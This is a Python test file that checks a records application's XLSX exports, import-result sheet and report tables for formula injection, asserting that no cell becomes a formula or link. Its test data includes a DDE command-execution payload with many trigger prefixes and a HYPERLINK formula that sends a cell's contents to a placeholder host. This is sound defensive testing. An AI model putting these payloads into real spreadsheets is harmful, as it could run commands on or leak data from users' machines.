"""Text that a spreadsheet would run: no cell of any workbook that the program writes is a formula (sync.md §6)."""

from __future__ import annotations

import re
import zipfile
from contextlib import closing
from datetime import date
from pathlib import Path
from typing import Any

import python_calamine
import xlsxwriter

from db.fields import Kind, fields_of
from swdesk.export import export_list
from swdesk.importing.apply import import_ledgers
from swdesk.importing.result import save_result
from swdesk.records import Query, model_of, save
from swdesk.reports.document import Cell, Column, Document, Table
from swdesk.reports.xlsx import write_xlsx
from tests.torture.registry import Counts, bar
from tests.torture.stations import CLOCK, empty_store

_COMMAND = "cmd|' /C calc'!A0"
STARTS = ("=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", "\n=", " =", "\u200b=", '"=', "%0A=")
TEXTS = [start + _COMMAND for start in STARTS] + [
    '=HYPERLINK("http://x/"&A1,"看")',
    "=1+1",
    "http://x/",
    "-2+3",
]
_HEADINGS = ("姓名", "性别", "身份证号", "村（社区）", "备注")
_RUN = re.compile(rb"<f[ >]|<hyperlink|ddeLink|externalLink")


@bar("公式注入（XLSX）", "公式 0 格")
def injection(counts: Counts, folder: Path) -> str:
    books = [*_lists(folder), _result_sheet(folder), _report_tables(folder)]
    cells = 0
    for path in books:
        with zipfile.ZipFile(path) as packed:
            for name in packed.namelist():
                assert not _RUN.search(packed.read(name)), f"{path.name} {name} 里有公式或链接"
        book = python_calamine.CalamineWorkbook.from_path(path)
        for sheet in book.sheet_names:
            cells += sum(
                _COMMAND in str(cell) for row in book.get_sheet_by_name(sheet).to_python() for cell in row
            )
    assert cells >= len(books), "没有写进去，什么也没试"
    return f"{len(STARTS)}种开头，{len(books)}个工作簿，{cells}个格子，公式 0"


def _lists(folder: Path) -> list[Path]:
    """Every text field of people and visits, as a list exports it."""
    found: list[Path] = []
    with closing(empty_store(folder / "store")) as store:
        for kind in ("person", "visit"):
            texts = [f.name for f in fields_of(model_of(kind)) if f.kind in {Kind.TEXT, Kind.NOTE}]
            with store.write("登记") as work:
                for text in TEXTS:
                    day = {"day": date(2026, 1, 1)} if kind == "visit" else {}
                    save(work.session, kind, dict.fromkeys(texts, text) | day)
            found.append(folder / f"{kind}.xlsx")
            with store.read() as session:
                export_list(session, kind, Query(), found[-1], columns=texts)
    return found


def _result_sheet(folder: Path) -> Path:
    """What an import says of a ledger whose cells, sheet and file names are such texts."""
    ledger = folder / "ledgers"
    ledger.mkdir()
    book: Any = xlsxwriter.Workbook(str(ledger / "=1+1.xlsx"))
    sheet = book.add_worksheet("=1+1")
    for line, cells in enumerate(
        (_HEADINGS, *((f"赵{text}"[:30], text, text, text, text) for text in TEXTS))
    ):
        for column, value in enumerate(cells):
            sheet.write_string(line, column, value)
    book.close()
    with closing(empty_store(folder / "imported")) as store:
        result = import_ledgers(store, ledger, clock=CLOCK)
    assert result.rows, "没有读出台账"
    path = folder / "导入结果.xlsx"
    save_result(result, path)
    return path


def _report_tables(folder: Path) -> Path:
    """The tables of a report with such texts in every place."""
    text = TEXTS[0]
    columns = (Column(text, 3), Column(text, 3))
    rows = tuple((Cell(each), Cell(each)) for each in TEXTS)
    table = Table(key="x", title=text, columns=columns, rows=rows, left=text, foot=text, notes=(text,))
    path = folder / "报告.xlsx"
    write_xlsx(Document(title=text, author=text, blocks=(table,)), path)
    return path
